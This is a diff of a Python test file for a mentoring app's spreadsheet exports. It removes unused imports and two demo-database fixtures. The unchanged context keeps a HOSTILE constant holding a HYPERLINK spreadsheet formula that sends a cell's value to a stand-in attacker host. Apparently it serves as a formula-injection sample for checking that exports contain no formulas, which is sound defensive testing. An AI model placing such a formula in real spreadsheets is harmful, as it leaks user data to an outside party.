@@ -6,8 +6,6 @@ sheets, headers, frozen bold header, real dates, no formulas, atomic writing, ca
 
 from __future__ import annotations
 
-import shutil
-from collections.abc import Iterator
 from datetime import date, datetime
 from pathlib import Path
 from typing import Any
@@ -28,8 +26,7 @@ from mentordesk.model import (
     Sex,
 )
 from mentordesk.services import people as P
-from mentordesk.services.database import Database, open_database
-from mentordesk.services.demo import build_demo
+from mentordesk.services.database import Database
 from mentordesk.services.exports import (
     HIDDEN_SPECIAL,
     MENTEE_HEADERS,
@@ -42,26 +39,6 @@ from mentordesk.services.reference import list_request_kinds
 
 TODAY = date(2027, 3, 15)
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Нажми")'
-
-
-@pytest.fixture(scope="module")
-def demo_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
-    folder = tmp_path_factory.mktemp("demo")
-    with pytest.MonkeyPatch.context() as mp:
-        mp.setenv("MENTORDESK_HOME", str(folder))
-        db = open_database(folder / "demo.sqlite")
-        build_demo(db, "school", 6, today=TODAY)
-        db.close()
-    return folder / "demo.sqlite"
-
-
-@pytest.fixture
-def demo(demo_file: Path, tmp_path: Path) -> Iterator[Database]:
-    path = tmp_path / "демо.sqlite"
-    shutil.copyfile(demo_file, path)
-    db = open_database(path)
-    yield db
-    db.close()
 
 
 def no_formulas(wb: openpyxl.Workbook) -> None:
